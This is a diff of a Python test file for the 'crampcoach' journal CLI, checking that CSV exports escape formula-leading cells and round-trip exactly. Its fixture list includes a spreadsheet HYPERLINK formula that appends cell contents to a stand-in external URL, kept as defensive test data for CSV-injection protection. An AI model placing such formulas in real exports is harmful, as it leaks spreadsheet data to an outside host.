@@ -5,7 +5,9 @@ file never deleted."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import os
 import shutil
@@ -21,7 +23,8 @@ import pytest
 from click.testing import CliRunner, Result
 
 from crampcoach.cli import cli
-from crampcoach.journal.store import Journal
+from crampcoach.journal.exchange import export_text, read_export
+from crampcoach.journal.store import Journal, Rating, Session
 
 FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Open")', "+1+1", "-2", "@SUM(A1:A9)",
             "\tTab first", "\rCarriage return first", "'Quoted already", "''", "'=1", "Plain"]
@@ -47,41 +50,44 @@ def _journal_with_notes(path: Path) -> None:
             journal.add_rating(4, note=note, routine=note)
 
 
-def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
+def test_the_neurologist_s_csv_has_no_live_formula_cell(tmp_path: Path) -> None:
     journal = tmp_path / "journal.sqlite3"
     _journal_with_notes(journal)
     result = _run("history", "export", "--format", "csv", "--journal", str(journal))
     assert result.exit_code == 0
-    rows = result.stdout.split("\n")[3:]
-    assert rows[0].endswith(
-        ',"\'=HYPERLINK(""http://x.example/?""&A1,""Open"")",,,,,,,,4,'
-        '"\'=HYPERLINK(""http://x.example/?""&A1,""Open"")"')
-    assert rows[1].endswith(",'+1+1,,,,,,,,4,'+1+1")
-    assert rows[2].endswith(",'-2,,,,,,,,4,'-2")
-    assert rows[3].endswith(",'@SUM(A1:A9),,,,,,,,4,'@SUM(A1:A9)")
-    assert rows[4].endswith(",'\tTab first,,,,,,,,4,'\tTab first")
-    assert rows[6].endswith(",''Quoted already,,,,,,,,4,''Quoted already")
-    assert rows[9].endswith(",Plain,,,,,,,,4,Plain")
-    # No cell of a record starts with a character a spreadsheet treats as a formula.
-    for row in rows[:-1]:
-        cells = [c.lstrip('"') for c in row.split(",")]
-        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), row
+    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))[1:]
+    assert [row[-1] for row in rows] == [
+        "'" + note if note.startswith(("=", "+", "-", "@", "\t", "\r")) else note
+        for note in FORMULAS]
 
 
-def test_the_json_and_csv_round_trip_stays_exact(tmp_path: Path) -> None:
+def _records(path: Path) -> tuple[list[Session], list[Rating]]:
+    records = read_export(path)
+    return list(records.sessions), list(records.ratings)
+
+
+def test_format_1_csv_marks_formula_cells_and_reads_back_exactly(tmp_path: Path) -> None:
     journal = tmp_path / "journal.sqlite3"
     _journal_with_notes(journal)
-    csv_file = tmp_path / "export.csv"
-    assert _run("history", "export", "-o", str(csv_file), "--journal", str(journal)).exit_code == 0
-    copy = tmp_path / "copy.sqlite3"
-    imported = _run("history", "import", str(csv_file), "--journal", str(copy))
-    assert imported.stdout == f"Imported 0 sessions and 10 ratings from {csv_file}.\n"
-    original = json.loads(_run("history", "export", "--format", "json", "--journal",
-                               str(journal)).stdout)["records"]
-    again = json.loads(_run("history", "export", "--format", "json", "--journal",
-                            str(copy)).stdout)["records"]
-    assert again == original
-    assert [r["note"] for r in again] == FORMULAS
+    with Journal.open(journal) as opened:
+        sessions, ratings = opened.sessions(), opened.ratings()
+    exported = tmp_path / "export.csv"
+    exported.write_text(export_text(sessions, ratings, "csv", datetime(2026, 3, 2, tzinfo=UTC)),
+                        newline="")
+    with exported.open(newline="") as f:
+        cells = [row[-1] for row in csv.reader(f)][3:]
+    assert cells[:3] == ["'" + FORMULAS[0], "'+1+1", "'-2"]
+    assert cells[6:9] == ["''Quoted already", "'''", "''=1"]
+    assert _records(exported) == ([], ratings)
+
+
+def test_a_format_1_csv_written_before_keeps_its_quotes(tmp_path: Path) -> None:
+    old = tmp_path / "old.csv"
+    old.write_text("# crampcoach journal export format 1 made 2025-01-01T00:00:00.000000Z\n"
+                   "record,id,time_utc,rating,note\n"
+                   "rating,abc,2025-01-01T00:00:00.000000Z,3,'tis the cramp\n")
+    _, [rating] = _records(old)
+    assert rating.note == "'tis the cramp"
 
 
 def test_a_fifo_as_the_import_is_refused_at_once(tmp_path: Path) -> None:
